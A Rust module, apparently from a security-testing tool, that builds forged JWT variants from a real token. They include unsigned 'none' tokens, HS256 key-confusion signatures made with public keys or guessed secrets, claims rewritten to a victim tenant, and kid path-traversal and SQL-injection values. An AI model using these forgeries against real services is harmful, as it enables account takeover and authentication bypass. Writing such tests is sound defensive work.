//! Tokens that were changed by somebody without the key.

use aws_lc_rs::hmac;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD as BASE64;
use serde_json::{Map, Value, json};

/// A good token, taken apart.
struct Parts<'a> {
    header: Map<String, Value>,
    claims: Map<String, Value>,
    signature: &'a str,
    texts: (&'a str, &'a str),
}

fn parts(token: &str) -> Option<Parts<'_>> {
    let mut pieces = token.split('.');
    let (header, claims, signature) = (pieces.next()?, pieces.next()?, pieces.next()?);
    let open = |text: &str| serde_json::from_slice(&BASE64.decode(text).ok()?).ok();
    Some(Parts { header: open(header)?, claims: open(claims)?, signature, texts: (header, claims) })
}

fn sealed(value: &Map<String, Value>) -> String {
    BASE64.encode(Value::Object(value.clone()).to_string())
}

/// Forged tokens, by what was done to them. `victim` is the tenant to be taken for; `keys` a set of public keys (JWK), which
/// some libraries take for a secret.
pub(super) fn forged(token: &str, victim: &str, keys: Option<&Value>) -> Vec<(String, String)> {
    let Some(parts) = parts(token) else { return Vec::new() };
    let (header, payload) = parts.texts;
    let mut list = vec![
        ("without its signature".to_owned(), format!("{header}.{payload}.")),
        ("in two parts".to_owned(), format!("{header}.{payload}")),
        ("in four parts".to_owned(), format!("{token}.{}", parts.signature)),
        ("with an empty payload".to_owned(), format!("{header}..{}", parts.signature)),
        ("with another signature".to_owned(), format!("{header}.{payload}.{}", flipped(parts.signature))),
    ];
    // Every claim edited: as the victim's tenant, or a list with it, or later.
    for (name, value) in &parts.claims {
        let other = match value {
            Value::String(_) => json!(victim),
            Value::Array(items) => items.iter().cloned().chain([json!(victim)]).collect(),
            Value::Number(_) => json!(value.as_i64().unwrap_or(0).saturating_add(400_000_000)),
            _ => json!({ "tenant": victim }),
        };
        let mut claims = parts.claims.clone();
        claims.insert(name.clone(), other);
        list.push((
            format!("with its claim `{name}` edited"),
            format!("{header}.{}.{}", sealed(&claims), parts.signature),
        ));
    }
    let mut claims = parts.claims.clone();
    for name in ["account_id", "account", "tenant_id", "org_id", "tenant"] {
        claims.insert(name.to_owned(), json!(victim));
    }
    let forged = sealed(&claims);
    for name in ["none", "None", "nOnE", "", "HS256", "RS256", "PS256", "ES512", "EdDSA"] {
        let mut header = parts.header.clone();
        header.insert("alg".to_owned(), json!(name));
        let body = format!("{}.{forged}", sealed(&header));
        list.push((format!("of the algorithm `{name}`, unsigned"), format!("{body}.")));
        list.push((format!("of the algorithm `{name}`, signed as before"), format!("{body}.{}", parts.signature)));
        if name == "HS256" {
            for (what, secret) in secrets(keys) {
                let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, &secret), body.as_bytes());
                list.push((format!("sealed with {what}"), format!("{body}.{}", BASE64.encode(tag))));
            }
        }
    }
    for (name, value) in [
        ("kid", json!("../../../../dev/null")),
        ("kid", json!("' UNION SELECT 'x")),
        ("jku", json!("https://keys.example/jwks.json")),
        ("x5u", json!("https://keys.example/chain.pem")),
        ("jwk", json!({ "kty": "oct", "k": "AAAA" })),
        ("typ", json!("JWT")),
        ("crit", json!(["exp"])),
    ] {
        let mut header = parts.header.clone();
        header.insert(name.to_owned(), value);
        list.push((
            format!("with `{name}` in its header"),
            format!("{}.{forged}.{}", sealed(&header), parts.signature),
        ));
    }
    list
}

/// What a careless verifier might take for a shared secret.
fn secrets(keys: Option<&Value>) -> Vec<(&'static str, Vec<u8>)> {
    let mut secrets = vec![("an empty secret", Vec::new()), ("a guess", b"secret".to_vec())];
    let Some(keys) = keys else { return secrets };
    secrets.push(("the published keys", keys.to_string().into_bytes()));
    if let Some(key) = keys.pointer("/keys/0") {
        secrets.push(("the published key", key.to_string().into_bytes()));
        let coordinates = ["x", "y", "n"].iter().filter_map(|name| BASE64.decode(key.get(*name)?.as_str()?).ok());
        secrets.push(("the published key's bytes", coordinates.flatten().collect()));
    }
    secrets
}

/// Another signature of the same length.
fn flipped(signature: &str) -> String {
    signature.chars().enumerate().map(|(at, c)| if at == 3 { if c == 'A' { 'B' } else { 'A' } } else { c }).collect()
}
